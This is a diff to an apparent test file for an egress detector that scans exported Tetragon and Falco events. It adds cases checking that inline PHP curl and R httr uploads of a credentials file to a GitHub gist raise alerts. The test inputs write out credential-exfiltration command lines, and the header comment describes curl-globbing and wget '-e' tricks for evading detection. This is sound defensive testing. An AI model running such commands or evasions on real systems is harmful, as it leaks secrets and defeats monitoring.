@@ -2,7 +2,8 @@
  * Uploads by curl and wget written so that no URL or upload flag reads as one (red-team review): curl's URL
  * globbing (`https://api.git{hub}.com/gists`, `api.github.[c-c]om`) names the forge only once curl expands
  * it, and wget's `-e`/`--execute` runs `.wgetrc` commands (`-e post_file=FILE`, `-e method=PUT -e
- * body_file=FILE`), so a credential posted to a gist that way raised nothing (a few KiB, far under the egress
+ * body_file=FILE`); an inline script's upload through PHP's curl (`CURLOPT_POSTFIELDS`) or R's httr named no
+ * writing verb the recogniser knew, or ran in no interpreter it knew. A credential posted to a gist so raised nothing (a few KiB, far under the egress
  * threshold). Checked as exported Tetragon and Falco JSON lines through the real scan path; kept out of the
  * scenario library (the bench's workload).
  */
@@ -79,6 +80,14 @@ describe('uploads hidden in curl globs and wget commands', () => {
       expect(await alertsOf('wget-execute', wget, put, form)).toEqual([gist('wget')]);
     });
 
+    it(`an inline PHP curl upload and an R one are high (${form})`, async () => {
+      // Found by red-team review: CURLOPT_POSTFIELDS named no writing verb as a word, and R was no interpreter.
+      const php = `-r '$c=curl_init("https://api.github.com/gists");curl_setopt($c,CURLOPT_POSTFIELDS,file_get_contents("${CREDS}"));curl_exec($c);'`;
+      expect(await alertsOf('php-curl', '/usr/local/bin/php', php, form)).toEqual([gist('php')]);
+      const r = `-e 'httr::POST("https://api.github.com/gists", body = httr::upload_file("${CREDS}"))'`;
+      expect(await alertsOf('rscript-httr', '/usr/lib/R/bin/Rscript', r, form)).toEqual([gist('Rscript')]);
+    });
+
     it(`a globbed download, a wget setting and an upload elsewhere are quiet (${form})`, async () => {
       const releases = 'https://api.github.com/repos/acme/{app,cli}/releases/latest';
       expect(await alertsOf('curl-glob-get', '/usr/bin/curl', `-fsSL ${releases}`, form)).toEqual([]);
@@ -86,6 +95,8 @@ describe('uploads hidden in curl globs and wget commands', () => {
       expect(await alertsOf('wget-e-get', '/usr/bin/wget', robots, form)).toEqual([]);
       const logs = `-e post_file=${CREDS} https://logs.example.com/in`;
       expect(await alertsOf('wget-e-logs', '/usr/bin/wget', logs, form, 'logs.example.com')).toEqual([]);
+      const get = `-e 'httr::GET("https://api.github.com/repos/acme/app/releases/latest")'`;
+      expect(await alertsOf('rscript-get', '/usr/lib/R/bin/Rscript', get, form)).toEqual([]);
     });
   }
 });
